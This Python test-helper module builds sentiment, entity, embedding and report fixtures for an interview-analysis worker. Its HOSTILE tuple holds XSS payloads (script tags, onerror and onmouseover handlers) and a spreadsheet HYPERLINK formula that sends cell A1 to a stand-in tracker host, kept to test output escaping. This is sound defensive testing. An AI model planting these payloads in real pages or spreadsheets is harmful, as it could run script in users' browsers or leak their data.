"""Results and records for tests of tables, pages and citations, without a worker."""

from datetime import UTC, datetime
from typing import Any, Final

from qda_worker.client.enums import LimitUnit, LongTextOutcome, Offsets, SentimentLabel
from qda_worker.client.readers.segment import Segment
from qda_worker.client.report.statements import Link, Report, Statement, UsedModel
from qda_worker.client.results import (
    Embedding,
    Entities,
    Entity,
    ItemError,
    Probabilities,
    Provenance,
    Sentiment,
    Usage,
)
from qda_worker.client.tables.records import Record, to_record

MODEL: Final = Provenance(
    model="german-sentiment",
    source="oliverguhr/german-sentiment-bert",
    revision="f195511fd2678d4a56ca3f5a371844138a3bc8d9",
    precision="fp32",
    worker_version="0.1.0",
    model_digest="d" * 64,
    generation="e" * 64,
)
USAGE: Final = Usage(LongTextOutcome.WHOLE, 5, 5, 512, LimitUnit.TOKENS, 1, 20)
OPTIONS: Final[dict[str, dict[str, object]]] = {
    "sentiment": {"command": "sentiment", "long_texts": "cut"},
    "entities": {"command": "entities", "long_texts": "cut"},
    "embed": {"command": "embed", "long_texts": "cut", "kinds": ["dense"]},
}

# Texts that would do harm in a page or a table that does not escape them.
HOSTILE: Final = (
    "<script>document.title='taken'</script>",
    "<img src=https://tracker.invalid/x onerror=\"document.title='taken'\">",
    "</p></li></ol><h1>taken</h1><!--",
    "&lt;b&gt; $title ${script} {shown} %s",
    "\u202eumgekehrt\u202c \x00\x07 \ud83d]]>",
    '" onmouseover="document.title=\'taken\'" x="',
    '=HYPERLINK("https://tracker.invalid/?"&A1)',
)


def sentiment_record(identifier: str, text: str = "Das hilft.", **origin: Any) -> Record:
    """Return the record of a positive text."""
    segment = Segment(text, identifier, "a.txt", **origin)
    scores = Probabilities(0.75, 0.2, 0.05)
    result = Sentiment(identifier, None, SentimentLabel.POSITIVE, scores, USAGE)
    return to_record(segment, result, MODEL, OPTIONS["sentiment"])


def entity_record(identifier: str, text: str, *names: str) -> Record:
    """Return the record of a text with these names as persons."""
    found = [(name, text.index(name)) for name in names]
    entities = tuple(Entity(name, "PER", "PER", start, start + len(name)) for name, start in found)
    result = Entities(identifier, None, entities, USAGE, Offsets.CODE_POINTS)
    return to_record(Segment(text, identifier, "a.txt"), result, MODEL, OPTIONS["entities"])


def vector_record(identifier: str, vector: list[float] | None) -> Record:
    """Return the record of a vector; of an error if there is none."""
    error = None if vector is not None else ItemError("TEXT_EMPTY", "the text has no characters")
    result = Embedding(identifier, error, USAGE, dense=vector)  # type: ignore[arg-type] # as an array in JSON
    return to_record(Segment("Text", identifier, "a.txt"), result, MODEL, OPTIONS["embed"])


def make_report(texts: list[str], **changes: Any) -> Report:
    """Return a report in which every second statement is positive, and each is linked to the next one."""
    statements = []
    for number, text in enumerate(texts):
        label = SentimentLabel.POSITIVE if number % 2 else SentimentLabel.NEGATIVE
        first = text.split(" ")[0]
        statements.append(
            Statement(
                Segment(text, str(number), "a.txt", speaker=("I", "B1")[number % 2], start=61.0 * number),
                sentiment=label,
                probability=0.9,
                positive=0.9 if number % 2 else 0.05,
                negative=0.05 if number % 2 else 0.9,
                entities=[Entity(first, "PERSON", "PER", 0, len(first))] if number % 3 == 0 else [],
                vector=[float(number), float(number % 5), 1.0],  # type: ignore[arg-type] # any sequence
                links=[Link((number + 1) % len(texts), 0.8)],
            )
        )
    values: dict[str, Any] = {
        "title": "Interview",
        "statements": statements,
        "models": [UsedModel("sentiment", MODEL, "MIT")],
        "threshold": 0.75,
        "created": datetime(2026, 3, 4, 5, 6, tzinfo=UTC),
    }
    return Report(**{**values, **changes})
